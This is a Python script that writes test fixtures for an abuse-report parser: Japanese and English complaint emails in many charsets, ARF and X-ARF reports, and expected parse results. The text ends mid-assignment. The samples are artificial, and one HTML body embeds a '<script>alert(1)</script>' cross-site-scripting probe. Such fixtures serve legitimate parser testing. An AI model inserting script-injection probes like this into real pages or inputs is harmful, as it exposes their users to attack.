#!/usr/bin/env python3
"""Writes the intake fixture corpus: each sample (a mail, a feed file, a report) and, beside it, NAME.expected.json
with what Mogura must make of it.

The expectations below are written by hand, from the content of each sample; they are not produced by Mogura's
parser. Python's email package builds the MIME structure and its codecs encode the Japanese text, so the bytes
are what real mailers send. Run it again only to change the corpus:

    python3 Tests/Fixtures/intake/generate.py

Expected draft keys (any may be left out; the test compares only what is given):
  format, category, track, indicators (list of [kind, value], compared as a set), event_time (RFC 3339 UTC or
  null), zone_assumed, reporter, subject, language, message_id, parse_error (true/false), warnings_contain (list
  of substrings), evidence (dict of key -> value).
"python" lists differences from Python's email package (policy.default) that are expected, with the reason.
"""
import email.header
import email.mime.application
import email.mime.base
import email.mime.message
import email.mime.multipart
import email.mime.text
import email.utils
import gzip
import io
import json
import os
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
COUNT = 0


def write(name, data, expected, python=None):
    global COUNT
    COUNT += 1
    with open(os.path.join(HERE, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode("utf-8"))
    record = {"drafts": expected}
    if python:
        record["python"] = python
    base = name.rsplit(".", 1)[0] if not name.endswith(".xml.gz") else name[:-7]
    with open(os.path.join(HERE, base + ".expected.json"), "w") as f:
        json.dump(record, f, ensure_ascii=False, indent=1, sort_keys=True)
        f.write("\n")


def crlf(text):
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def header(text, charset):
    return email.header.Header(text, charset).encode()


def mime_text(body, charset, subtype="plain", cte=None):
    part = email.mime.text.MIMEText(body, subtype, charset)
    if cte == "quoted-printable":
        del part["Content-Transfer-Encoding"]
        import quopri
        part.set_payload(quopri.encodestring(body.encode(charset)).decode("ascii"))
        part["Content-Transfer-Encoding"] = "quoted-printable"
    return part


def japanese_mail(name, subject, body, charset, expected, extra_headers=None, python=None, attach=None, sender="山田 太郎 <taro@reporter.example.org>", subtype="plain"):
    message = email.mime.multipart.MIMEMultipart() if attach else mime_text(body, charset, subtype)
    if attach:
        message.attach(mime_text(body, charset))
        for part in attach:
            message.attach(part)
    display, address = sender.rsplit(" <", 1)
    message["From"] = email.utils.formataddr((str(email.header.Header(display, charset)), address.rstrip(">"))) if not display.isascii() else sender
    if not display.isascii():
        del message["From"]
        message["From"] = header(display, charset) + " <" + address
    message["To"] = "abuse@provider.example"
    message["Subject"] = header(subject, charset) if not subject.isascii() else subject
    message["Date"] = "Fri, 23 Jun 2023 10:00:00 +0900"
    message["Message-ID"] = "<%s@reporter.example.org>" % name.split(".")[0]
    for key, value in (extra_headers or {}).items():
        message[key] = value
    write(name, message.as_bytes(), expected, python)


def spam_original(ip="203.0.113.45", sender="info@bank-security.example.jp", url="http://phish.example.jp/login", subject="Your account is locked"):
    return email.message_from_string(
        "Received: from mail.spammer.example (spam-host.example [%s])\n"
        "\tby mx.reporter.example.org (Postfix) with ESMTP id 4Qx2Lm0abc\n"
        "\tfor <victim@reporter.example.org>; Thu, 22 Jun 2023 04:32:10 +0900\n"
        "Received: from localhost (localhost [127.0.0.1]) by mx.reporter.example.org (Postfix)\n"
        "From: \"Bank\" <%s>\n"
        "To: victim@reporter.example.org\n"
        "Subject: %s\n"
        "Date: Thu, 22 Jun 2023 04:30:00 +0900\n"
        "Message-ID: <orig-%s@spammer.example>\n"
        "\n"
        "Please verify at %s immediately.\n" % (ip, sender, subject, ip.replace(".", "-"), url))


def rfc822(message):
    return email.mime.message.MIMEMessage(message)


# ---------------------------------------------------------------------------------------------------------------
# Japanese complaints
# ---------------------------------------------------------------------------------------------------------------

BASE_JA = {"format": "mime", "reporter": "taro@reporter.example.org", "language": "ja", "parse_error": False}

japanese_mail(
    "ja-iso2022jp-forwarded-spam.eml", "迷惑メールの報告", "貴社のサーバーから迷惑メールが届きました。\n添付をご確認ください。\n", "iso-2022-jp",
    [dict(BASE_JA, category="spam", track="tos", subject="迷惑メールの報告", message_id="ja-iso2022jp-forwarded-spam@reporter.example.org",
          indicators=[["ip", "203.0.113.45"], ["email", "info@bank-security.example.jp"], ["url", "http://phish.example.jp/login"]],
          event_time="2023-06-21T19:32:10Z")],
    attach=[rfc822(spam_original())])

japanese_mail(
    "ja-iso2022jp-cp50220-symbols.eml", "①フィッシングサイトのご連絡～至急",
    "お世話になります。\n①貴社管理のhxxps://login-bank[.]example[.]jp/verify にフィッシングサイトがあります～\n"
    "確認日時：２０２３年６月２２日　午後４時３２分\nＩＰアドレス：１９８．５１．１００．２３\n", "cp932",
    [dict(BASE_JA, category="phishing", track="tos", subject="①フィッシングサイトのご連絡～至急",
          indicators=[["url", "https://login-bank.example.jp/verify"], ["ip", "198.51.100.23"]],
          event_time="2023-06-22T07:32:00Z", zone_assumed=True)],
    python={"subject": "CP50220: Python's iso-2022-jp codec refuses ① (NEC row 13) and maps ～ to U+301C",
            "body": "CP50220: Python's iso-2022-jp codec refuses ① (NEC row 13) and maps ～ to U+301C"})

# Re-label the cp932-encoded parts as ISO-2022-JP the way Outlook does: encode with our own ISO-2022-JP writer.
def iso2022jp_cp50220(text):
    out = bytearray()
    mode = "ascii"
    for ch in text:
        if ord(ch) < 0x80:
            if mode != "ascii":
                out += b"\x1b(B"
                mode = "ascii"
            out.append(ord(ch))
            continue
        sjis = ch.encode("cp932")
        if len(sjis) == 1:  # half-width katakana: Outlook uses ESC ( I
            if mode != "kana":
                out += b"\x1b(I"
                mode = "kana"
            out.append(sjis[0] - 0x80)
            continue
        s1, s2 = sjis
        if s1 >= 0xE0:
            s1 -= 0x40
        row = (s1 - 0x81) * 2 + (1 if s2 >= 0x9F else 0)
        cell = s2 - 0x9F if s2 >= 0x9F else (s2 - 0x40 if s2 < 0x7F else s2 - 0x41)
        if mode != "jis":
            out += b"\x1b$B"
            mode = "jis"
        out += bytes([row + 0x21, cell + 0x21])
    if mode != "ascii":
        out += b"\x1b(B"
    return bytes(out)


def raw_iso2022jp_mail(name, subject, body, expected, python=None, from_header="taro@reporter.example.org"):
    import base64
    encoded_subject = "=?ISO-2022-JP?B?" + base64.b64encode(iso2022jp_cp50220(subject)).decode() + "?="
    head = ("From: %s\r\nTo: abuse@provider.example\r\nSubject: %s\r\nDate: Fri, 23 Jun 2023 10:00:00 +0900\r\n"
            "Message-ID: <%s@reporter.example.org>\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=ISO-2022-JP\r\n"
            "Content-Transfer-Encoding: 7bit\r\n\r\n") % (from_header, encoded_subject, name.split(".")[0])
    write(name, head.encode("ascii") + iso2022jp_cp50220(body).replace(b"\n", b"\r\n"), expected, python)


# The cp932 mail above is labelled cp932 by Python; write the Outlook-style ISO-2022-JP one by hand.
os.remove(os.path.join(HERE, "ja-iso2022jp-cp50220-symbols.eml"))
os.remove(os.path.join(HERE, "ja-iso2022jp-cp50220-symbols.expected.json"))
COUNT -= 1
raw_iso2022jp_mail(
    "ja-iso2022jp-cp50220-symbols.eml", "①フィッシングサイトのご連絡～至急",
    "お世話になります。\n①貴社管理のhxxps://login-bank[.]example[.]jp/verify にフィッシングサイトがあります～\n"
    "確認日時：２０２３年６月２２日　午後４時３２分\nＩＰアドレス：１９８．５１．１００．２３\n",
    [dict(BASE_JA, category="phishing", track="tos", subject="①フィッシングサイトのご連絡～至急",
          message_id="ja-iso2022jp-cp50220-symbols@reporter.example.org",
          indicators=[["url", "https://login-bank.example.jp/verify"], ["ip", "198.51.100.23"]],
          event_time="2023-06-22T07:32:00Z", zone_assumed=True)],
    python={"subject": "CP50220: Python's iso-2022-jp codec refuses ① (NEC row 13) and maps ～ to U+301C",
            "body": "CP50220: Python's iso-2022-jp codec refuses ① (NEC row 13) and maps ～ to U+301C"})

raw_iso2022jp_mail(
    "ja-iso2022jp-wareki.eml", "不正アクセスについて",
    "令和5年6月22日 午前4時32分頃、203.0.113.77 から当社サーバーへの不正アクセス（SSHへの総当たり攻撃）がありました。\n対応をお願いします。\n",
    [dict(BASE_JA, category="bruteForce".replace("bruteForce", "brute-force"), track="tos", subject="不正アクセスについて",
          indicators=[["ip", "203.0.113.77"]], event_time="2023-06-21T19:32:00Z", zone_assumed=True)])

raw_iso2022jp_mail(
    "ja-iso2022jp-halfwidth-kana.eml", "ｽﾊﾟﾑﾒｰﾙの件",
    "ｽﾊﾟﾑが大量に届いています。送信元：spammer@bulk.example.com\n日時 2023/06/22 04:32 JST\n",
    [dict(BASE_JA, category="spam", track="tos", subject="ｽﾊﾟﾑﾒｰﾙの件",
          indicators=[["email", "spammer@bulk.example.com"]], event_time="2023-06-21T19:32:00Z", zone_assumed=False)],
    python={"subject": "ESC ( I half-width katakana (CP50221): Python's iso-2022-jp codec refuses it and leaves the word encoded",
            "body": "ESC ( I half-width katakana (CP50221): Python's iso-2022-jp codec replaces it"})

japanese_mail(
    "ja-sjis-webshell.eml", "ホームページ改ざんのお知らせ",
    "貴社でホスティングされている http://www.shop-example.jp/wp-content/uploads/shell.php が改ざんされ、"
    "Webシェルが設置されています。\n発見日時: 2023年6月22日 13時05分\n", "shift_jis",
    [dict(BASE_JA, category="webshell", track="tos", subject="ホームページ改ざんのお知らせ",
          indicators=[["url", "http://www.shop-example.jp/wp-content/uploads/shell.php"]],
          event_time="2023-06-22T04:05:00Z", zone_assumed=True)])

# CP932 extensions labelled Shift_JIS (the common case: Windows mailers).
japanese_mail(
    "ja-sjis-cp932-extensions.eml", "㈱サンプルからの迷惑メール",
    "㈱サンプル名義のスパムが届いています。Ⅲ通目です。送信元IPは 192.0.2.200 です。\n", "cp932",
    [dict(BASE_JA, category="spam", track="tos", subject="㈱サンプルからの迷惑メール", indicators=[["ip", "192.0.2.200"]],
          event_time="2023-06-23T01:00:00Z")],
    python={"note": "none expected: Python's cp932 decodes the extensions"})

# Raw Shift_JIS in the Subject without RFC 2047 (broken mailers), declared charset missing in the body.
write("ja-sjis-raw-header.eml",
      b"From: complaint@reporter.example.org\r\nTo: abuse@provider.example\r\nSubject: " + "迷惑メール転送".encode("cp932") +
      b"\r\nDate: Fri, 23 Jun 2023 10:00:00 +0900\r\nMessage-ID: <ja-sjis-raw-header@reporter.example.org>\r\nMIME-Version: 1.0\r\n"
      b"Content-Type: text/plain\r\n\r\n" + "送信元 203.0.113.88 からの迷惑メールです。\r\n".encode("cp932"),
      [{"format": "mime", "category": "spam", "track": "tos", "subject": "迷惑メール転送", "reporter": "complaint@reporter.example.org",
        "indicators": [["ip", "203.0.113.88"]], "language": "ja", "parse_error": False,
        "warnings_contain": ["no charset declared for 8-bit text; decoded as shift_jis"]}],
      python={"subject": "raw 8-bit header: Python keeps undecodable bytes as surrogates; Mogura detects Shift_JIS",
              "body": "no charset declared: Python reads us-ascii and replaces; Mogura detects Shift_JIS"})

# Shift_JIS text labelled ISO-2022-JP (mislabelled): falls back with a warning.
write("ja-mislabelled-sjis-as-iso2022jp.eml",
      b"From: taro@reporter.example.org\r\nTo: abuse@provider.example\r\nSubject: =?ISO-2022-JP?B?GyRCTEJPRyVhITwlaxsoQg==?=\r\n"
      b"Date: Fri, 23 Jun 2023 10:00:00 +0900\r\nMessage-ID: <ja-mislabelled@reporter.example.org>\r\nMIME-Version: 1.0\r\n"
      b"Content-Type: text/plain; charset=ISO-2022-JP\r\nContent-Transfer-Encoding: 8bit\r\n\r\n" +
      "迷惑メールが 198.51.100.99 から届きました。\r\n".encode("cp932"),
      [{"format": "mime", "category": "spam", "subject": "迷惑メール", "indicators": [["ip", "198.51.100.99"]], "language": "ja",
        "warnings_contain": ["declared charset \"ISO-2022-JP\" did not decode; decoded as shift_jis"]}],
      python={"body": "mislabelled: Python decodes the Shift_JIS bytes as iso-2022-jp with replacement characters"})

japanese_mail(
    "ja-eucjp-scan.eml", "ポートスキャンの報告",
    "貴社ネットワークの 203.0.113.150 から当方へのポートスキャンを検知しました。\n検知時刻: 2023-06-22 04:32:10 JST\n", "euc-jp",
    [dict(BASE_JA, category="scanning", track="tos", subject="ポートスキャンの報告", indicators=[["ip", "203.0.113.150"]],
          event_time="2023-06-21T19:32:10Z", zone_assumed=False)])

japanese_mail(
    "ja-eucjp-ddos.eml", "DDoS攻撃について",
    "平成31年4月30日 23時59分より、198.51.100.0 帯域から大量のトラフィックが当社サーバー（ポート443）に送られています。\n", "euc-jp",
    [dict(BASE_JA, category="ddos", track="tos", subject="DDoS攻撃について", indicators=[["ip", "198.51.100.0"]],
          event_time="2019-04-30T14:59:00Z", zone_assumed=True)])

japanese_mail(
    "ja-utf8-qp-phishing.eml", "フィッシングサイト報告（緊急）",
    "以下のURLでフィッシングサイトを確認しました。\nｈｔｔｐｓ：／／ｓｅｃｕｒｅ－ｌｏｇｉｎ．ｅｘａｍｐｌｅ．ｊｐ／ａｃｃｏｕｎｔ\n"
    "問い合わせ先：ｓｅｃｕｒｉｔｙ＠ｂａｎｋ．ｅｘａｍｐｌｅ．ｃｏｍ\n", "utf-8",
    [dict(BASE_JA, category="phishing", track="tos", subject="フィッシングサイト報告（緊急）",
          indicators=[["url", "https://secure-login.example.jp/account"], ["email", "security@bank.example.com"]],
          event_time="2023-06-23T01:00:00Z")])

japanese_mail(
    "ja-utf8-base64-idn.eml", "例え.jp のサイトについて",
    "https://例え.jp/login が偽サイトになっています。また www.例え.jp も同様です。\n", "utf-8",
    [dict(BASE_JA, category="phishing", track="tos", subject="例え.jp のサイトについて",
          indicators=[["url", "https://xn--r8jz45g.jp/login"]], event_time="2023-06-23T01:00:00Z")])

japanese_mail(
    "ja-legal-disclosure.eml", "発信者情報開示請求書の送付について",
    "プロバイダ責任制限法に基づき、発信者情報開示請求書を送付いたします。\n対象：2023年6月20日 10時15分頃の投稿（IPアドレス 203.0.113.9）\n", "iso-2022-jp",
    [dict(BASE_JA, category="other", track="legal", subject="発信者情報開示請求書の送付について", indicators=[["ip", "203.0.113.9"]],
          event_time="2023-06-20T01:15:00Z", zone_assumed=True)])

japanese_mail(
    "ja-legal-takedown.eml", "送信防止措置依頼（著作権侵害）",
    "貴社サーバー上の https://files.example.jp/movie.mp4 は当社の著作権を侵害しています。送信防止措置を依頼します。\n", "iso-2022-jp",
    [dict(BASE_JA, category="copyright", track="legal", subject="送信防止措置依頼（著作権侵害）",
          indicators=[["url", "https://files.example.jp/movie.mp4"]])])

japanese_mail(
    "ja-html-only.eml", "アカウント乗っ取りの可能性",
    "<html><body><p>貴社のメールアカウント <b>sales@example.jp</b> が乗っ取られ、スパムを送信しています。</p>"
    "<p>例: <a href=\"http://promo.example.net/cheap\">こちら</a></p><script>alert(1)</script></body></html>", "utf-8",
    [dict(BASE_JA, category="compromised-account", track="tos", subject="アカウント乗っ取りの可能性",
          indicators=[["email", "sales@example.jp"], ["url", "http://promo.example.net/cheap"]])],
    python={"body": "HTML-only: Python returns the HTML source; Mogura returns the text a person reads"}, subtype="html")

japanese_mail(
    "ja-form-abuse.eml", "お問い合わせフォームからの迷惑メール",
    "貴社のお客様サイト https://www.clinic.example.jp/contact/ のお問い合わせフォームが悪用され、自動返信メールが大量に届いています。\n", "iso-2022-jp",
    [dict(BASE_JA, category="form-abuse", track="tos", subject="お問い合わせフォームからの迷惑メール",
          indicators=[["url", "https://www.clinic.example.jp/contact/"]])])

japanese_mail(
    "ja-fraud-signup.eml", "不正申込の疑い",
    "本日の新規契約 申込ID 88812 は盗難クレジットカードによる不正申込の疑いがあります。申込者メール: buyer123@freemail.example.com\n", "iso-2022-jp",
    [dict(BASE_JA, category="fraud-signup", track="tos", subject="不正申込の疑い", indicators=[["email", "buyer123@freemail.example.com"]])])

japanese_mail(
    "ja-open-resolver.eml", "オープンリゾルバの件",
    "192.0.2.53 がオープンリゾルバとなっており、DNS amplification 攻撃の踏み台にされています。\n", "iso-2022-jp",
    [dict(BASE_JA, category="open-service", track="tos", subject="オープンリゾルバの件", indicators=[["ip", "192.0.2.53"]])])

# ---------------------------------------------------------------------------------------------------------------
# English complaints
# ---------------------------------------------------------------------------------------------------------------

BASE_EN = {"format": "mime", "language": "en", "parse_error": False}


def english_mail(name, subject, body, expected, charset="us-ascii", subtype="plain", attach=None, python=None, sender="Abuse Desk <abuse@isp.example.net>", extra=None):
    if attach:
        message = email.mime.multipart.MIMEMultipart()
        message.attach(email.mime.text.MIMEText(body, subtype, charset))
        for part in attach:
            message.attach(part)
    else:
        message = email.mime.text.MIMEText(body, subtype, charset)
    message["From"] = sender
    message["To"] = "abuse@provider.example"
    message["Subject"] = subject
    message["Date"] = "Thu, 22 Jun 2023 12:00:00 +0000"
    message["Message-ID"] = "<%s@isp.example.net>" % name.split(".")[0]
    for key, value in (extra or {}).items():
        message[key] = value
    write(name, message.as_bytes(), expected, python)


english_mail(
    "en-forwarded-spam.eml", "Fwd: spam from your network", "Please stop this spam. The original is attached.\n",
    [dict(BASE_EN, category="spam", track="tos", reporter="abuse@isp.example.net", subject="Fwd: spam from your network",
          message_id="en-forwarded-spam@isp.example.net", event_time="2023-06-21T19:32:10Z",
          indicators=[["ip", "198.51.100.61"], ["email", "promo@cheap-pills.example.com"], ["url", "http://cheap-pills.example.com/buy"]])],
    attach=[rfc822(spam_original(ip="198.51.100.61", sender="promo@cheap-pills.example.com", url="http://cheap-pills.example.com/buy", subject="Cheap pills"))])

english_mail(
    "en-brute-force-logs.eml", "SSH brute force from 203.0.113.201",
    "Hello,\n\nYour host 203.0.113.201 has been attacking our SSH server with a brute force attack.\n\n"
    "Jun 22 04:32:10 server sshd[1234]: Failed password for root from 203.0.113.201 port 51234 ssh2\n"
    "Jun 22 04:32:12 server sshd[1234]: Failed password for root from 203.0.113.201 port 51236 ssh2\n\n"
    "Timestamps are UTC: 2023-06-22T04:32:10Z.\n",
    [dict(BASE_EN, category="brute-force", track="tos", reporter="abuse@isp.example.net", event_time="2023-06-22T04:32:10Z", zone_assumed=False,
          indicators=[["ip", "203.0.113.201"]])])

english_mail(
    "en-defanged-phishing.eml", "Phishing site hosted on your network",
    "The following phishing page impersonates ExampleBank:\n  hxxps://examplebank-secure[.]com[.]example-hosting[.]net/signin?id=7\n"
    "It resolves to 192[.]0[.]2[.]77. Reported by security(at)examplebank.com.\n",
    [dict(BASE_EN, category="phishing", track="tos", reporter="abuse@isp.example.net",
          indicators=[["url", "https://examplebank-secure.com.example-hosting.net/signin?id=7"], ["ip", "192.0.2.77"],
                      ["email", "security@examplebank.com"]])])

english_mail(
    "en-html-only-malware.eml", "Malware distribution",
    "<html><head><style>p {color: red}</style></head><body><p>Your server distributes malware (Emotet):</p>"
    "<ul><li>http://files.example-host.com/invoice.doc</li></ul><p>First seen June 21, 2023 3:15 PM UTC.</p></body></html>",
    [dict(BASE_EN, category="malware", track="tos", reporter="abuse@isp.example.net", event_time="2023-06-21T15:15:00Z",
          indicators=[["url", "http://files.example-host.com/invoice.doc"]])],
    subtype="html", python={"body": "HTML-only: Python returns the HTML source; Mogura returns the text a person reads"})

english_mail(
    "en-windows1252.eml", "Botnet C&C on your network \u2014 urgent",
    "Our sinkhole saw 203.0.113.130 talking to a botnet command and control server \u201cZeus\u201d.\n",
    [dict(BASE_EN, category="botnet", track="tos", reporter="abuse@isp.example.net", subject="Botnet C&C on your network \u2014 urgent",
          indicators=[["ip", "203.0.113.130"]])],
    charset="windows-1252")

english_mail(
    "en-latin1-copyright.eml", "DMCA notice: copyright infringement",
    "Dear Sir/Madam,\n\nThis is a DMCA notice. The file at https://share.example.org/f/abc123 infringes our copyright "
    "(\u00a9 2023 Example Pictures). Signed: Jos\u00e9 Garc\u00eda.\n",
    [dict(BASE_EN, category="copyright", track="legal", indicators=[["url", "https://share.example.org/f/abc123"]])],
    charset="iso-8859-1")

english_mail(
    "en-pasted-headers.eml", "Spam complaint",
    "We received spam from your customer. Full headers:\n\n"
    "Received: from smtp.customer-example.jp (smtp.customer-example.jp [198.51.100.33])\n"
    "        by mx.isp.example.net (Postfix) with ESMTP id AB12\n"
    "        for <user@isp.example.net>; Wed, 21 Jun 2023 22:10:00 +0000\n"
    "From: newsletter@customer-example.jp\nSubject: Best offer\n\nBuy now!\n",
    [dict(BASE_EN, category="spam", track="tos", reporter="abuse@isp.example.net", event_time="2023-06-21T22:10:00Z",
          indicators=[["ip", "198.51.100.33"], ["email", "newsletter@customer-example.jp"]])])

english_mail(
    "en-ipv6-scan.eml", "Port scan from 2001:db8:100:5::25",
    "Our IDS logged a port scan from 2001:db8:100:5::25 and from [2001:db8:100:5::26]:4444 against 2001:db8:ffff::1.\n",
    [dict(BASE_EN, category="scanning", track="tos", reporter="abuse@isp.example.net",
          indicators=[["ip", "2001:db8:100:5::25"], ["ip_port", "[2001:db8:100:5::26]:4444"], ["ip", "2001:db8:ffff::1"]])])

english_mail(
    "en-other-unclear.eml", "Question about your service",
    "Hello, could you tell me who owns the address 192.0.2.15? Thanks.\n",
    [dict(BASE_EN, category="other", track="tos", reporter="abuse@isp.example.net", indicators=[["ip", "192.0.2.15"]])])

english_mail(
    "en-encoded-words-q.eml", "=?UTF-8?Q?Spam_=E2=80=94_again?= =?UTF-8?Q?_from_your_IP?=",
    "Again spam from 203.0.113.45.\n",
    [dict(BASE_EN, category="spam", track="tos", reporter="abuse@isp.example.net", subject="Spam — again from your IP",
          indicators=[["ip", "203.0.113.45"]])])

english_mail(
    "en-rfc2231-attachment.eml", "Evidence attached", "Evidence of the phishing kit is attached.\n",
    [dict(BASE_EN, category="phishing", track="tos", reporter="abuse@isp.example.net", indicators=[])],
    attach=[(lambda p: (p.add_header("Content-Disposition", "attachment", filename=("utf-8", "ja", "証拠.txt")), p)[1])(
        email.mime.text.MIMEText("phishing kit listing", "plain", "utf-8"))])

english_mail(
    "en-koi8r.eml", "Spam report",
    "\u0421\u043f\u0430\u043c \u0441 \u0430\u0434\u0440\u0435\u0441\u0430 203.0.113.222.\n",
    [dict(BASE_EN, category="spam", track="tos", reporter="abuse@isp.example.net", indicators=[["ip", "203.0.113.222"]], language=None)],
    charset="koi8-r")

# ---------------------------------------------------------------------------------------------------------------
# ARF (RFC 5965) feedback loops
# ---------------------------------------------------------------------------------------------------------------


def arf(name, feedback_type, fields, original, expected, reporter="Mail Provider FBL <fbl@mailbox-provider.example.com>",
        headers_only=False, human="This is an email abuse report for an email message received from IP 198.51.100.10.\n", python=None):
    message = email.mime.multipart.MIMEMultipart("report", report_type="feedback-report")
    message.attach(email.mime.text.MIMEText(human, "plain", "us-ascii"))
    report = email.mime.base.MIMEBase("message", "feedback-report")
    report.set_payload("Feedback-Type: %s\r\nUser-Agent: ExampleFBL/1.0\r\nVersion: 1\r\n" % feedback_type +
                       "".join("%s: %s\r\n" % item for item in fields))
    message.attach(report)
    if headers_only:
        part = email.mime.text.MIMEText(original.as_string().split("\n\n")[0] + "\n", "rfc822-headers")
        message.attach(part)
    else:
        message.attach(rfc822(original))
    message["From"] = reporter
    message["To"] = "abuse@provider.example"
    message["Subject"] = "FW: Your account is locked"
    message["Date"] = "Thu, 22 Jun 2023 05:00:00 +0000"
    message["Message-ID"] = "<%s@mailbox-provider.example.com>" % name.split(".")[0]
    message["MIME-Version"] = "1.0"
    write(name, message.as_bytes(), expected, python)


BASE_ARF = {"format": "arf", "reporter": "fbl@mailbox-provider.example.com", "language": "en", "parse_error": False}

arf("arf-abuse-yahoo-like.eml", "abuse",
    [("Source-IP", "198.51.100.10"), ("Original-Mail-From", "<newsletter@customer.example.jp>"),
     ("Arrival-Date", "Thu, 22 Jun 2023 04:32:10 +0000"), ("Original-Rcpt-To", "<victim@mailbox-provider.example.com>"),
     ("Reported-Domain", "customer.example.jp"), ("Authentication-Results", "mx.mailbox-provider.example.com; spf=pass")],
    spam_original(ip="198.51.100.10", sender="newsletter@customer.example.jp", url="http://customer.example.jp/sale"),
    [dict(BASE_ARF, category="spam", track="tos", event_time="2023-06-22T04:32:10Z",
          indicators=[["ip", "198.51.100.10"], ["email", "newsletter@customer.example.jp"], ["domain", "customer.example.jp"],
                      ["url", "http://customer.example.jp/sale"]],
          evidence={"feedback_type": "abuse", "user_agent": "ExampleFBL/1.0"})])

arf("arf-fraud.eml", "fraud",
    [("Source-IP", "203.0.113.12"), ("Arrival-Date", "Thu, 22 Jun 2023 04:32:10 +0900"),
     ("Reported-URI", "http://login-verify.example.net/bank"), ("Original-Mail-From", "<notice@bank-alerts.example.net>")],
    spam_original(ip="203.0.113.12", sender="notice@bank-alerts.example.net", url="http://login-verify.example.net/bank"),
    [dict(BASE_ARF, category="phishing", track="tos", event_time="2023-06-21T19:32:10Z",
          indicators=[["ip", "203.0.113.12"], ["email", "notice@bank-alerts.example.net"], ["url", "http://login-verify.example.net/bank"]])])

arf("arf-virus.eml", "virus",
    [("Source-IP", "2001:db8:100::77"), ("Arrival-Date", "22 Jun 2023 04:32:10 GMT")],
    spam_original(ip="2001:db8:100::77", sender="invoice@customer.example.jp", url="http://customer.example.jp/invoice.zip"),
    [dict(BASE_ARF, category="malware", track="tos", event_time="2023-06-22T04:32:10Z",
          indicators=[["ip", "2001:db8:100::77"], ["email", "invoice@customer.example.jp"], ["url", "http://customer.example.jp/invoice.zip"]])])

arf("arf-headers-only.eml", "abuse", [("Arrival-Date", "Thu, 22 Jun 2023 04:32:10 +0000")],
    spam_original(ip="198.51.100.44", sender="bulk@customer.example.jp", url="http://customer.example.jp/x"),
    [dict(BASE_ARF, category="spam", track="tos", event_time="2023-06-22T04:32:10Z",
          indicators=[["ip", "198.51.100.44"], ["email", "bulk@customer.example.jp"]])],
    headers_only=True)

arf("arf-not-spam.eml", "not-spam", [("Source-IP", "198.51.100.10")],
    spam_original(ip="198.51.100.10", sender="newsletter@customer.example.jp", url="http://customer.example.jp/ok"),
    [dict(BASE_ARF, category="other", track="tos", indicators=[["ip", "198.51.100.10"], ["email", "newsletter@customer.example.jp"],
                                                              ["url", "http://customer.example.jp/ok"]],
          event_time="2023-06-22T05:00:00Z", evidence={"feedback_type": "not-spam"})])

arf("arf-auth-failure.eml", "auth-failure",
    [("Source-IP", "192.0.2.250"), ("Reported-Domain", "provider.example"), ("Arrival-Date", "Thu, 22 Jun 2023 04:32:10 +0000")],
    spam_original(ip="192.0.2.250", sender="billing@provider.example", url="http://provider-billing.example.com/pay"),
    [dict(BASE_ARF, category="phishing", track="tos", event_time="2023-06-22T04:32:10Z",
          indicators=[["ip", "192.0.2.250"], ["domain", "provider.example"], ["email", "billing@provider.example"],
                      ["url", "http://provider-billing.example.com/pay"]])])

# ---------------------------------------------------------------------------------------------------------------
# X-ARF (YAML) and XARF v4 (JSON)
# ---------------------------------------------------------------------------------------------------------------


def xarf_mail(name, yaml, expected, evidence="Jun 22 04:32:10 sshd: Failed password for root from 203.0.113.201\n", python=None):
    message = email.mime.multipart.MIMEMultipart()
    message.attach(email.mime.text.MIMEText("This is an automated abuse report in X-ARF format.\n", "plain", "utf-8"))
    report = email.mime.text.MIMEText(yaml, "plain", "utf-8")
    report.set_param("name", "report.txt")
    message.attach(report)
    logs = email.mime.text.MIMEText(evidence, "plain", "utf-8")
    logs.add_header("Content-Disposition", "attachment", filename="logfile.log")
    message.attach(logs)
    message["From"] = "reports@blocklist.example.org"
    message["To"] = "abuse@provider.example"
    message["Subject"] = "abuse report about 203.0.113.201"
    message["Date"] = "Thu, 22 Jun 2023 05:00:00 +0000"
    message["Message-ID"] = "<%s@blocklist.example.org>" % name.split(".")[0]
    message["X-ARF"] = "YES"
    write(name, message.as_bytes(), expected, python)


xarf_mail("xarf-login-attack.eml",
          "Reported-From: reports@blocklist.example.org\nCategory: abuse\nReport-Type: login-attack\nService: ssh\nVersion: 0.2\n"
          "User-Agent: fail2ban-xarf 1.0\nDate: Thu, 22 Jun 2023 04:32:10 +0000\nSource: 203.0.113.201\nSource-Type: ipv4\n"
          "Port: 22\nReport-ID: 1234@blocklist.example.org\nSchema-URL: http://www.x-arf.org/schema/abuse_login-attack_0.1.2.json\n"
          "Attachment: text/plain\nOccurrences: 12\n",
          [{"format": "x-arf", "category": "brute-force", "track": "tos", "reporter": "reports@blocklist.example.org",
            "event_time": "2023-06-22T04:32:10Z", "indicators": [["ip_port", "203.0.113.201:22"]], "parse_error": False,
            "evidence": {"report_type": "login-attack", "service": "ssh", "occurrences": "12"}}])

xarf_mail("xarf-phishing.eml",
          "Reported-From: phish@cert.example.org\nCategory: fraud\nReport-Type: phishing\nVersion: 0.2\nUser-Agent: cert-bot 2\n"
          "Date: 2023-06-22T04:32:10Z\nSource: http://secure-update.example.jp/paypal/\nSource-Type: uri\n"
          "Schema-URL: http://www.x-arf.org/schema/fraud_phishing_0.1.4.json\nAttachment: none\n",
          [{"format": "x-arf", "category": "phishing", "reporter": "phish@cert.example.org", "event_time": "2023-06-22T04:32:10Z",
            "indicators": [["url", "http://secure-update.example.jp/paypal/"]], "parse_error": False}])

xarf_mail("xarf-malware.eml",
          "Reported-From: av@scanner.example.org\nCategory: malware\nReport-Type: malware\nVersion: 0.2\nUser-Agent: scanner\n"
          "Date: Thu, 22 Jun 2023 04:32:10 +0000\nSource: 198.51.100.90\nSource-Type: ipv4\nSchema-URL: http://www.x-arf.org/schema/malware_0.1.json\n"
          "Attachment: none\n",
          [{"format": "x-arf", "category": "malware", "indicators": [["ip", "198.51.100.90"]], "event_time": "2023-06-22T04:32:10Z"}])

xarf_mail("xarf-schema-violations.eml",
          "Reported-From: not-an-address\nCategory: abuse\nReport-Type: login-attack\nSource: 203.0.113.201\nSource-Type: ipv4\nPort: 99999\n",
          [{"format": "x-arf", "category": "brute-force", "indicators": [["ip", "203.0.113.201"]], "parse_error": False,
            "warnings_contain": ["X-ARF schema: $: required field \"Date\" is missing", "X-ARF schema: $.Port: above 65535",
                                 "X-ARF schema: $.Reported-From: \"not-an-address\" is not a valid email"]}])

XARF4 = {
